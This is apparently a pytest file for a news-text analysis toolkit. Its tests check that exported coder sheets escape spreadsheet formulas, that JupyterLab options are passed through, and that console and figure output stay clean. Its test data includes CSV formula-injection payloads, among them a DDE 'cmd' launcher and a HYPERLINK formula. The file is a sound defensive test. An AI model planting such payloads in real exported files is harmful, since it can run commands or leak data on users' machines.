"""Issue 16, items 5, 14 and 15: coder sheets cannot run formulas while data tables stay exact;
`toolkit lab` passes JupyterLab options on; the console names rejected inputs and draws no
progress bar into a log; figures warn about nothing in the published pages."""

from __future__ import annotations

import csv
import json
import subprocess
import warnings
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from toolkit.cli import main
from toolkit.notebook import figures, plots
from toolkit.reports import build_reports
from toolkit.validation import read_coded_sheet, sample_evidence, write_sheet

FORMULAS = ['=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]


def test_coder_sheet_cells_never_run_as_formulas(tmp_path: Path) -> None:
    evidence = pd.DataFrame(
        {
            "doc_id": ["d1", "d2", "d3", "d4"],
            "outlet": FORMULAS,
            "family": ["hedging"] * 4,
            "category": ["modal"] * 4,
            "rule": ["hedging:may"] * 4,
            "cue": ["\tmay", "\rmay", "may", "=may"],
            "start": [0, 0, 0, 0],
            "end": [3, 3, 3, 3],
            "sentence": [0, 0, 0, 0],
        }
    )
    sentences = pd.DataFrame(
        {
            "doc_id": ["d1", "d2", "d3", "d4"],
            "sentence": [0] * 4,
            "start": [0] * 4,
            "text": ["may"] * 4,
        }
    )
    sheet = sample_evidence(evidence, sentences, per_cell=5)
    path = write_sheet(sheet, tmp_path / "sheet.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        for column in ("outlet", "cue", "in_context"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert sorted(row["outlet"] for row in rows) == sorted(f"'{value}" for value in FORMULAS)
    back = read_coded_sheet(path)
    assert sorted(back["outlet"]) == sorted(FORMULAS)
    assert sorted(back["cue"]) == sorted(["\tmay", "\rmay", "may", "=may"])


def test_data_tables_keep_formula_like_text_exact(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    corpus = tmp_path / "stories.jsonl"
    line = {"id": "a", "outlet": FORMULAS[0], "text": "Officials said the strike may end."}
    corpus.write_text(json.dumps(line) + "\n")
    assert main(["analyze", "--csv", str(corpus), "--out", str(tmp_path / "out")]) == 0
    documents = pd.read_csv(tmp_path / "out" / "documents.csv")
    assert documents["outlet"].tolist() == [FORMULAS[0]]


@pytest.mark.parametrize(
    ("args", "passed"),
    [
        (["lab", "--no-browser"], ["--no-browser"]),
        (["lab", "--", "--no-browser"], ["--no-browser"]),
        (["lab", "--no-browser", "--port", "8899"], ["--no-browser", "--port", "8899"]),
        (["lab"], []),
    ],
)
def test_lab_passes_jupyterlab_options_on(
    args: list[str], passed: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """`toolkit lab --no-browser` was refused; `toolkit lab -- --no-browser` passed the `--`."""
    calls: list[list[str]] = []

    def run(command: list[str], check: bool) -> subprocess.CompletedProcess[str]:
        calls.append(command)
        return subprocess.CompletedProcess(command, 0)

    monkeypatch.setattr(subprocess, "run", run)
    assert main(args) == 0
    (command,) = calls
    assert command[1:3] == ["-m", "jupyterlab"]
    assert command[4:] == passed


def test_unknown_options_of_other_commands_are_still_refused(
    capsys: pytest.CaptureFixture[str],
) -> None:
    with pytest.raises(SystemExit):
        main(["codebooks", "list", "--no-browser"])
    assert "unrecognized arguments: --no-browser" in capsys.readouterr().err


def test_a_report_names_each_rejected_input(tmp_path: Path, quick_notebooks: Path) -> None:
    """The console said "Analysed 2 articles (1 rejected)" but not which or why."""
    corpus = tmp_path / "stories.jsonl"
    good = {"id": "a", "outlet": "Wire", "text": "Officials said the strike may end."}
    corpus.write_text(json.dumps(good) + "\n" + '{"id": "b", "outlet": \n')
    said: list[str] = []
    build_reports(
        corpus, tmp_path / "out", on_error="skip", notebooks=quick_notebooks, say=said.append
    )
    assert "Analysed 1 articles (1 rejected) on serial (1 process)." in said
    assert "  rejected: stories.jsonl:2: broken JSON: Expecting value (column 23)" in said


def test_no_progress_bar_when_the_output_is_not_a_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A progress bar written to a log file became carriage-return clutter."""
    import toolkit.reports

    given: dict[str, Any] = {}

    def build(*args: object, **kwargs: Any) -> object:
        given.update(kwargs)
        raise KeyboardInterrupt

    monkeypatch.setattr(toolkit.reports, "build_reports", build)
    assert main(["report", "--out", str(tmp_path / "out")]) == 130
    assert given["progress"] is False
    assert "\r" not in capsys.readouterr().err


def test_figures_of_hostile_labels_draw_without_warnings_or_math() -> None:
    """Missing glyphs printed warnings into published pages; `$...$` started mathtext."""
    shares = pd.DataFrame({"anonymous": [1.0, 0.5]}, index=["中文 outlet", "$\\frac$ outlet"])
    figure = figures.share_bars(shares, title="Sources: $\\frac$ 中文 vs other outlets").figure
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        png = plots.figure_png(figure)
    assert png.startswith(b"\x89PNG")
